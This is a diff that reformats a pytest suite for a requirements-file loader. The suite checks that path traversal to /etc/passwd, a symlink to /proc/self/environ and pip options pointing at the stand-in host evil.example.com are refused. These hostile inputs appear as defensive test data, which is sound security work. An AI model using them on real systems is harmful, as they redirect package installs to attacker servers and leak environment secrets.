@@ -50,8 +50,9 @@ def load_with(requirements: str, where: str = "image") -> ConfigError | None:
     if where == "image":
         stack = minimal_config(images={"jupyter": {"type": "jupyter", "requirements": requirements}})
     else:
-        stack = minimal_config(teams={"data": {"notebooks": [
-            {"name": "lab", "type": "jupyter", "requirements": requirements}]}})
+        stack = minimal_config(
+            teams={"data": {"notebooks": [{"name": "lab", "type": "jupyter", "requirements": requirements}]}}
+        )
     try:
         load(cli_values(stack))
     except ConfigError as error:
@@ -83,8 +84,18 @@ def test_git_directory_is_never_read(repo, path, where):
     refused(path, where)
 
 
-@pytest.mark.parametrize("path", ["../x.txt", "requirements/../../x.txt", "/etc/passwd", "./requirements/good.txt",
-                                  "requirements//good.txt", "requirements\\good.txt", "requirements/good.txt\n"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "../x.txt",
+        "requirements/../../x.txt",
+        "/etc/passwd",
+        "./requirements/good.txt",
+        "requirements//good.txt",
+        "requirements\\good.txt",
+        "requirements/good.txt\n",
+    ],
+)
 def test_paths_outside_or_unnormalised_are_refused(repo, path):
     """No `..` escape, no absolute path, no `.`/empty segment, no backslash, no control character."""
     refused(path)
@@ -122,7 +133,9 @@ def test_pathspec_magic_does_not_match_other_files(repo):
     """A path spelled as a glob is a literal: `*.txt` names a file called `*.txt`, not good.txt."""
     (repo / "requirements" / "*.txt").write_text("numpy\n")  # untracked, so refused
     assert "not tracked" in refused("requirements/*.txt")
-    assert "not tracked" in refused("requirements/:(glob)*.txt") or "not found" in refused("requirements/:(glob)*.txt")
+    assert "not tracked" in refused("requirements/:(glob)*.txt") or "not found" in refused(
+        "requirements/:(glob)*.txt"
+    )
 
 
 def test_binary_file_is_a_config_error(repo):
@@ -164,21 +177,28 @@ def test_whole_program_refuses_the_symlink_attack(tmp_path, monkeypatch):
     root = copy_project(tmp_path / "teamspace")
     os.symlink("/proc/self/environ", root / "leak.txt")
     git(root, "add", "-A")
-    stack = minimal_config(images={"jupyter": {"type": "jupyter", "requirements": "leak.txt"}},
-                           registryPassword=Secret("pw-123456"))
+    stack = minimal_config(
+        images={"jupyter": {"type": "jupyter", "requirements": "leak.txt"}},
+        registryPassword=Secret("pw-123456"),
+    )
     result = run_copy(root, stack)
     assert result.registrations == []
     assert "ConfigError" in repr(result.error) and f"teamspace:{IMAGE_KEY}" in str(result.error)
     assert CANARY not in str(result.error)
 
 
-@pytest.mark.parametrize("text,line", [
-    ("numpy\n--index-url http://evil.example.com/simple\n", 2),
-    ("--extra-index-url=http://evil.example.com/simple\n", 1),
-    ("# header\n-r /etc/passwd\n", 2), ("-e git+https://evil.example.com/x.git#egg=x\n", 1),
-    ("numpy \\\n  --trusted-host evil.example.com\n", 1), ("x @ https://evil.example.com/x.whl\n", 1),
-    ("numpy\n\nnot a spec!\n", 3),
-])
+@pytest.mark.parametrize(
+    "text,line",
+    [
+        ("numpy\n--index-url http://evil.example.com/simple\n", 2),
+        ("--extra-index-url=http://evil.example.com/simple\n", 1),
+        ("# header\n-r /etc/passwd\n", 2),
+        ("-e git+https://evil.example.com/x.git#egg=x\n", 1),
+        ("numpy \\\n  --trusted-host evil.example.com\n", 1),
+        ("x @ https://evil.example.com/x.whl\n", 1),
+        ("numpy\n\nnot a spec!\n", 3),
+    ],
+)
 def test_pip_options_inside_the_file_are_refused(repo, text, line):
     """A tracked file is read only if it holds package specs: pip would honour `--index-url`,
     `-r`, `-e` or a URL inside it as on the command line. The message gives the line, not its text."""
@@ -192,6 +212,7 @@ def test_hashes_comments_and_markers_are_fine(repo):
     """pip's hash-checking mode (`--hash` on a continuation line), comments and markers pass."""
     (repo / "requirements" / "hashed.txt").write_text(
         "# pinned\nnumpy==2.1.0 \\\n    --hash=sha256:" + "ab" * 32 + "\n"
-        'tomli==2.0.1; python_version < "3.11"  # backport\n\n')
+        'tomli==2.0.1; python_version < "3.11"  # backport\n\n'
+    )
     git(repo, "add", "-A")
     assert load_with("requirements/hashed.txt") is None
